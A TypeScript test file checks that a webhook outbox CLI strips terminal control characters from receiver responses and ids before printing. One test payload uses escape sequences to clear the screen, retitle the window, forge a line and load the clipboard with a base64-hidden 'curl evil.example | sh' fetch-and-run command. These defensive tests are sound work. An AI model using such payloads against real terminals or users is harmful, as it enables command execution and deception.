import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterEach, describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/program.js';
import { FakeClock } from '../../src/clock.js';
import { Outbox } from '../../src/outbox.js';
import { startFlakyReceiver } from '../../src/testing/flaky-receiver.js';
import type { FlakyReceiver } from '../../src/testing/flaky-receiver.js';

let dir: string | undefined;
let receiver: FlakyReceiver | undefined;
afterEach(async () => {
  await receiver?.close();
  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
  receiver = undefined;
  dir = undefined;
});

async function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = '';
  let err = '';
  stdout.on('data', (c: Buffer) => (out += c.toString()));
  stderr.on('data', (c: Buffer) => (err += c.toString()));
  const code = await runCli(args, { stdout, stderr, entry: 'unused' });
  return { code, stdout: out, stderr: err };
}

// ESC, BEL, CR and the like: what a terminal acts on. '\n' is the output's own line break.
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f\u009b]/;

describe('CLI show <id>', () => {
  it('does not write a receiver-chosen answer (terminal escapes) raw to the terminal', async () => {
    dir = await mkdtemp(join(tmpdir(), 'rev-show-'));
    // A customer's endpoint answers 400 with terminal control sequences: clear screen, set the window
    // title, write the clipboard (OSC 52), then a forged line.
    const evil = '\u001b[2J\u001b[H\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\revt_1: delivered';
    receiver = await startFlakyReceiver({ script: [{ status: 400, body: evil }] });
    const clock = new FakeClock(Date.now());
    const outbox = await Outbox.open({ dir: join(dir, 'outbox'), clock, retry: { maxAttempts: 1 } });
    const dead = new Promise<void>((resolve) => outbox.once('dead', () => resolve()));
    await outbox.enqueue({ url: receiver.url, body: { hello: 1 }, id: 'evt_1', orderingKey: 'customer\u001b[8m-hidden' });
    await dead;
    await outbox.close();

    const shown = await cli(['show', 'evt_1', '--dir', join(dir, 'outbox')]);
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain('HTTP 400'); // the attempt is listed ...
    expect(shown.stdout).not.toMatch(CONTROL); // ... but no control character reaches the terminal
  });

  it('does not echo control characters of the id it was given', async () => {
    dir = await mkdtemp(join(tmpdir(), 'rev-show-'));
    const outbox = await Outbox.open({ dir: join(dir, 'outbox') });
    await outbox.close();
    const shown = await cli(['show', 'evt_\u001b]0;pwned\u0007', '--dir', join(dir, 'outbox')]);
    expect(shown.code).toBe(1);
    expect(shown.stderr).not.toMatch(CONTROL);
  });
});
